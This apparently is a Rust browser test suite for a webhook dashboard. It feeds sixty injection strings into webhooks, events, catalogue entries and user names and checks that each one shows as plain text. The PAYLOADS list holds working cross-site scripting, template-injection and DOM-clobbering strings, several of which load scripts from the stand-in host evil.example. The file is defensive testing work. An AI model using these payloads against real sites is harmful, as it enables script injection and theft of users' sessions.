//! Texts that mean to become more than text: scripts, markup, addresses, styles, and names that programs know.
//!
//! Each of them is put wherever a page shows what others wrote, and must stand there as it was written, while
//! the watchers see nothing.

use std::collections::BTreeMap;

use serde_json::{Value, json};
use tidings::{
    Account, Catalogue, CatalogueEntry, Change, Edit, EndpointUrl, HeaderName, HeaderValue,
    Headers, Registration, Webhook,
};

use super::page::Page;
use super::stage::Stage;

/// Each says by its number which one it was, where it runs.
const PAYLOADS: [&str; 60] = [
    // Scripts, whole and in pieces.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT >",
    "</script><script>alert(3)</script>",
    "<script src=//evil.example/4.js></script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
    "<script type=module>import('//evil.example/6.js')</script>",
    "<!--<script>alert(7)//--></script>",
    "]]><script>alert(8)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(9)>\">",
    "\"><script>alert(10)</script>",
    // Handlers.
    "<img src=x onerror=alert(11)>",
    "<img src=\"x\" onerror=\"&#97;lert(12)\">",
    "<body onload=alert(13)>",
    "<svg onload=alert(14)>",
    "<svg/onload=alert`15`>",
    "<input autofocus onfocus=alert(16)>",
    "<details open ontoggle=alert(17)>x</details>",
    "<video><source onerror=alert(18)></video>",
    "<a onmouseover=alert(19)>over</a>",
    "<marquee onstart=alert(20)>x</marquee>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(21)>",
    "<button popovertarget=x>x</button><b popover id=x onbeforetoggle=alert(22)>",
    // Out of an attribute.
    "\" onmouseover=\"alert(23)\" x=\"",
    "' onfocus='alert(24)' autofocus='",
    "` onclick=alert(25) `",
    "x\" style=\"position:fixed;inset:0\" onclick=\"alert(26)",
    "--><img src=x onerror=alert(27)>",
    "</title></textarea></style><img src=x onerror=alert(28)>",
    // Addresses.
    "javascript:alert(29)",
    "JaVaScRiPt&colon;alert(30)",
    "java\u{200b}script:alert(31)",
    "data:text/html,<script>alert(32)</script>",
    "<a href=javascript:alert(33)>click</a>",
    "<form action=javascript:alert(34)><button>go</button></form>",
    "//evil.example/35",
    "https://user:word@evil.example/36",
    // What loads or moves.
    "<iframe srcdoc=\"<script>alert(37)</script>\"></iframe>",
    "<iframe src=javascript:alert(38)></iframe>",
    "<object data=//evil.example/39></object>",
    "<embed src=//evil.example/40>",
    "<base href=//evil.example/41/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/42\">",
    "<link rel=stylesheet href=//evil.example/43.css>",
    "<img src=//evil.example/44.png>",
    // Styles.
    "<style>body{display:none}/*45*/</style>",
    "}:root{--tidings-text:red}body{background:url(//evil.example/46)}",
    // Templates and entities.
    "{{constructor.constructor('alert(47)')()}}",
    "${alert(48)}#{alert(48)}<%= alert(48) %>",
    "&lt;script&gt;alert(49)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(50)&#x3E;",
    "\\u003cscript\\u003ealert(51)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(52)+ADw-/script+AD4-",
    // Other tongues of markup, and what parsers take for each other.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(53)>",
    "<svg><animate onbegin=alert(54) attributeName=x></svg>",
    "<x-own onclick=alert(55) is=x-own><slot name=55></x-own>",
    // Names that programs and documents know.
    "__proto__",
    "constructor.prototype.polluted",
    "<form id=main><input name=attributes><img name=getElementById id=toasts>",
    // Writing that turns around, and what is long.
    "\u{202e}<gmi>(59)trela=rorreno\u{202c}\u{2066}\u{feff}\u{1f469}\u{200d}\u{1f4bb}",
    "\"null\" undefined NaN 0 -0 1e999 [object Object] 60 <b>wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww</b>",
];

/// What a page may be made of, and nothing else: the first thing that is, in words.
const GROWN: &str = "
  const known = new Set(('html head meta title link script body a div header img span nav ul li main p noscript h1 h2 h3 section '
    + 'form input label select option datalist button fieldset legend details summary search table caption thead tbody tr th td '
    + 'time code pre dl dt dd ol svg path g rect line text circle figure figcaption textarea strong dialog progress wbr').split(' '));
  const once = { script: 1, img: 1, meta: 4, title: 1, link: 5, main: 1, noscript: 1 };
  for (const node of document.querySelectorAll('*')) {
    const name = node.localName;
    if (!known.has(name)) return `an element ${name}`;
    if (once[name] && document.querySelectorAll(name).length !== once[name]) return `another ${name}`;
    for (const { name: attribute, value } of node.attributes) {
      if (/^on|^style$|^srcdoc$|^formaction$/.test(attribute)) return `an attribute ${attribute}`;
      if (/^(href|src|action|data)$/.test(attribute) && !/^(#|\\/(?!\\/))/.test(value)) return `a way to ${value}`;
    }
  }
  if ('polluted' in {}) return 'a polluted prototype';
  if (typeof document.getElementById !== 'function' || document.getElementById('main').localName !== 'main') return 'a clobbered document';
  return '';";

/// What of these texts does not stand in the page. Whatever is folded away or scrolled off counts.
const ABSENT: &str = "
  const page = document.body.textContent;
  return arguments[0].filter((text) => !page.includes(text));";

impl Page {
    /// Waits until all of these stand in the page as text, and looks for what has become of them.
    async fn shows(&self, what: &str, texts: &[String]) {
        assert!(!texts.is_empty(), "{what}: nothing to look for");
        let mut absent = Value::Null;
        let look = async || {
            absent = self.run(ABSENT, json!([texts])).await;
            (absent == json!([])).then_some(())
        };
        if Self::tried(look).await.is_none() {
            self.give_up(&format!("{what}: {absent}")).await;
        }
        assert_eq!(self.run(GROWN, json!([])).await, "", "{what}");
        self.is_well().await;
    }
}

/// The accounts of one who has a crowd of them.
pub(crate) fn accounts() -> Vec<Account> {
    PAYLOADS.iter().map(|text| Account::new(text).expect("an account")).collect()
}

fn texts() -> Vec<String> {
    PAYLOADS.iter().map(ToString::to_string).collect()
}

/// As JSON writes it.
fn written(text: &str) -> String {
    Value::from(text).to_string()
}

/// A short form that no other payload has: names have a bound.
fn short(at: usize, most: usize) -> String {
    let mut text = format!("{at} {}", PAYLOADS[at]);
    while text.len() > most {
        text.pop();
    }
    text
}

/// A webhook with this payload wherever one fits.
fn registration(stage: &Stage, at: usize) -> Registration {
    let text = PAYLOADS[at];
    let mut address =
        url::Url::parse(&stage.receivers.url(&format!("answer-{at}"))).expect("a URL");
    address.query_pairs_mut().append_pair("q", text);
    address.set_fragment(None);
    // As it stands, where the rules of addresses let it.
    let raw = format!("{}&{}", address, text.replace(char::is_whitespace, ""));
    let raw = EndpointUrl::parse(&raw).map_or(address.to_string(), |raw| raw.to_string());
    let name = format!("x-{}", text.replace(|char: char| !char.is_ascii_alphanumeric(), "-"));
    let name = HeaderName::parse(&name).expect("a header");
    let headers = Headers::new([(name, HeaderValue::parse("secret").expect("a value"))]);
    let edit = Edit::new()
        .description(text)
        .headers(headers.expect("headers"))
        .metadata(BTreeMap::from([(short(at, 64), text.to_owned())]));
    let types = [format!("sink{at}.*")];
    Registration::new(&raw, types).expect("a webhook").enabled(true).with(edit)
}

/// Puts every payload into a webhook's description, address, metadata and headers, and reads lists and pages.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium: tests/run"]
async fn what_is_written_into_a_webhook_stays_text() {
    let stage = Stage::with_catalogue(None).await;
    let mut webhooks: Vec<Webhook> = Vec::new();
    for at in 0..PAYLOADS.len() {
        webhooks.push(stage.register(registration(&stage, at)).await);
    }
    let page = Page::open(&stage, "Olga", "webhooks").await;
    let mut seen = std::collections::BTreeSet::new();
    while seen.len() < webhooks.len() {
        const NEW: &str = "const ids = [...document.querySelectorAll('tbody th a')].map((link) => link.hash.slice(11));
            return ids.length === 20 && !arguments[0].includes(ids[0]) && ids";
        let ids = page.until_with("another page of them", NEW, json!([seen])).await;
        let ids =
            ids.as_array().expect("a list").iter().map(|id| id.as_str().expect("an id").to_owned());
        let ids: Vec<String> = ids.collect();
        let listed = webhooks.iter().filter(|one| ids.contains(&one.id().to_string()));
        let texts =
            listed.flat_map(|one| [one.description().to_owned(), one.address().to_string()]);
        page.shows("the list", &texts.collect::<Vec<_>>()).await;
        seen.extend(ids);
        if seen.len() < webhooks.len() {
            page.click("Older").await;
        }
    }
    for (at, webhook) in webhooks.iter().enumerate() {
        page.route(&format!("webhooks/{}", webhook.id())).await;
        page.titled(webhook.address().as_str()).await;
        let mut texts = vec![webhook.description().to_owned()];
        texts.push(format!("{}: {}", short(at, 64), PAYLOADS[at]));
        texts.extend(webhook.headers().iter().map(|(name, _)| name.to_string()));
        page.shows("a webhook", &texts).await;
        if at % 10 == 0 {
            page.click("Edit").await;
            page.titled("Edit webhook").await;
            let typed =
                "return document.querySelector('[name=description]')?.value === arguments[0]";
            page.until_with("the form", typed, json!([webhook.description()])).await;
            assert_eq!(page.run(GROWN, json!([])).await, "");
        }
    }
    page.end().await;
}

/// Publishes every payload as a value, as a key, as a former value and as an id, and reads lists and pages.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium: tests/run"]
async fn what_is_written_into_an_event_stays_text() {
    let stage = Stage::with_catalogue(None).await;
    let mut events = Vec::new();
    for text in PAYLOADS {
        let change = Change::of("sink.made", &json!({ "id": text })).expect("a change");
        events.push(stage.publish(change).await);
    }
    let page = Page::open(&stage, "Olga", "events").await;
    for (at, part) in PAYLOADS.rchunks(25).enumerate() {
        page.shows("the list", &part.iter().map(ToString::to_string).collect::<Vec<_>>()).await;
        if at < 2 {
            page.click("Older").await;
        }
    }
    // All of them at once: as values, then as keys, then as what was before, in whole trees, too.
    let numbered = |prefix: &str| -> serde_json::Map<String, Value> {
        let pairs = PAYLOADS.iter().enumerate();
        pairs.map(|(at, text)| (format!("v{at}"), format!("{prefix}{text}").into())).collect()
    };
    let keys: serde_json::Map<String, Value> =
        PAYLOADS.iter().map(|text| ((*text).to_owned(), json!(1))).collect();
    let mut former = keys.clone();
    former.values_mut().for_each(|value| *value = json!({ "was": [0] }));
    let as_values = Change::of("sink.values", &numbered("")).expect("a change");
    let as_values = as_values.previous_attributes(&numbered("before ")).expect("attributes");
    let as_keys = Change::of("sink.keys", &json!({ "inner": keys, "outer": 1 })).expect("a change");
    let as_keys = as_keys.previous_attributes(&json!({ "inner": former })).expect("attributes");

    let id = stage.publish(as_values).await;
    page.route(&format!("events/{id}")).await;
    page.titled("sink.values").await;
    let quoted = |prefix: &str| -> Vec<String> {
        PAYLOADS.iter().map(|text| written(&format!("{prefix}{text}"))).collect()
    };
    page.shows("values", &quoted("")).await;
    page.shows("former values", &quoted("before ")).await;
    let id = stage.publish(as_keys).await;
    page.route(&format!("events/{id}")).await;
    page.titled("sink.keys").await;
    page.shows("keys", &quoted("").iter().map(|key| format!("{key}: 1")).collect::<Vec<_>>()).await;
    page.shows("former keys", &PAYLOADS.map(|text| format!("{}: ", written(text)))).await;
    // In the table of what changed, too, where a key is part of a path.
    let rows = "return document.querySelectorAll('.path code').length";
    assert_eq!(page.run(rows, json!([])).await, PAYLOADS.len());
    page.end().await;
}

/// Lets receivers answer with every payload, and reads deliveries and a test.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium: tests/run"]
async fn what_a_receiver_answers_stays_text() {
    let stage = Stage::with_catalogue(None).await;
    for (at, text) in PAYLOADS.iter().enumerate() {
        let status = if at % 2 == 0 { 200 } else { 500 };
        stage.receivers.answer(&format!("answer-{at}"), status, text);
        stage.register(registration(&stage, at)).await;
        let change = Change::of(&format!("sink{at}.made"), &json!({ "text": text }));
        stage.publish(change.expect("a change")).await;
    }
    let page = Page::open(&stage, "Olga", "overview").await;
    let request = tidings::PageRequest::first(100).expect("a page");
    let all = async || {
        let page = stage.tidings.deliveries(&Default::default(), &request).await.expect("a list");
        let done = page.items.iter().all(|one| !one.attempts.is_empty());
        (done && page.items.len() == PAYLOADS.len()).then_some(page.items)
    };
    let deliveries = page.wait("all answers", all).await;
    for (at, text) in PAYLOADS.into_iter().enumerate() {
        let name = format!("sink{at}.made");
        let of = |one: &&tidings::DeliveryView| one.event.event_type().as_str() == name;
        let delivery = deliveries.iter().find(of).expect("a delivery");
        page.route(&format!("deliveries/{}", delivery.delivery.id)).await;
        let heading = "return document.querySelector('.timeline h3')?.textContent.startsWith('Attempt 1: HTTP ')
            && document.querySelector('.timeline pre').textContent === arguments[0]";
        page.until_with(text, heading, json!([text])).await;
        page.shows("a delivery", &[text.to_owned(), written(text)]).await;
    }
    page.end().await;
}

/// Describes types of events by every payload, and reads the catalogue and the form that offers them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium: tests/run"]
async fn what_stands_in_the_catalogue_stays_text() {
    let mut builder = Catalogue::builder();
    for (at, text) in PAYLOADS.iter().enumerate() {
        let entry = CatalogueEntry::new(&format!("sink.made{at}")).expect("a type");
        let entry = entry.description(*text).of_resource(*text).version(*text);
        let schema = json!({ "type": "object", "title": text, "properties": { (*text): {} } });
        let entry = entry.example(&json!({ (*text): text })).expect("an example").schema(schema);
        builder = builder.entry(entry);
    }
    let stage = Stage::with_catalogue(Some(builder.build().expect("a catalogue"))).await;
    let page = Page::open(&stage, "Olga", "catalogue").await;
    page.shows("descriptions and resources", &texts()).await;
    page.run(
        "document.querySelectorAll('details').forEach((one) => { one.open = true; })",
        json!([]),
    )
    .await;
    let pairs = PAYLOADS.map(|text| format!("{}: {}", written(text), written(text)));
    page.shows("examples", &pairs).await;
    page.shows("schemas", &PAYLOADS.map(|text| format!("\"title\": {}", written(text)))).await;
    page.shows("versions", &PAYLOADS.map(|text| format!("Since version {text}"))).await;
    page.route("webhooks/new").await;
    page.shows("the form", &texts()).await;
    // What looks for it finds what has grown.
    page.run("document.getElementById('toasts').append(document.createElement('b'))", json!([]))
        .await;
    assert_eq!(page.run(GROWN, json!([])).await, "an element b");
    page.end().await;
}

/// Signs in as every payload, with accounts of such names, and types them into the address and the searches.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium: tests/run"]
async fn what_names_a_user_an_account_or_an_address_stays_text() {
    let stage = Stage::with_catalogue(None).await;
    let page = Page::open(&stage, "Crowd", "overview").await;
    page.shows("accounts", &texts()).await;
    page.plan("status of 404");
    page.plan("status of 400");
    for (at, text) in PAYLOADS.iter().enumerate() {
        let escaped: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
        page.sign_in(text).await;
        // The route itself, then what stands behind its question mark.
        let route = match at % 4 {
            0 => format!("webhooks?search={escaped}"),
            1 => format!("events?type={escaped}"),
            2 => format!("catalogue?search={escaped}"),
            _ => format!("webhooks/{}", escaped.replace('+', "%20")),
        };
        page.go_to(&page.url(&format!("?{at}#/{route}"))).await;
        page.shows("the user", &[format!("Signed in as {text}")]).await;
        page.route(&escaped.replace('+', "%20")).await;
        page.titled("There is no such page").await;
        assert_eq!(page.run(GROWN, json!([])).await, "", "{text}");
    }
    // Typed by hand, and where a dialog asks for the name of the user, who has one of these.
    let name = PAYLOADS[10];
    let webhook = stage.webhook("inbox", &["*"]).await;
    page.sign_in(name).await;
    page.go_to(&page.url(&format!("?dialog#/webhooks/{}", webhook.id()))).await;
    page.click("Disable").await;
    page.shows("the dialog", &[format!("Type {name} exactly")]).await;
    page.fill("Your user name", name).await;
    page.click("Disable").await;
    page.see("Somebody disabled it.").await;
    // What the API complains of is said in its words.
    page.route("webhooks/new").await;
    page.fill("URL", &format!("{}/{name}", stage.receivers.origin)).await;
    page.fill("Event types", name).await;
    page.click("Create webhook").await;
    page.until("a complaint", "return document.querySelector('.error:has(*)')?.innerText").await;
    assert_eq!(page.run(GROWN, json!([])).await, "");
    page.end().await;
}

/// Counts the payloads, and that no two are the same.
#[test]
fn there_are_sixty_payloads() {
    let distinct: std::collections::BTreeSet<_> = PAYLOADS.iter().collect();
    assert_eq!(distinct.len(), 60);
}
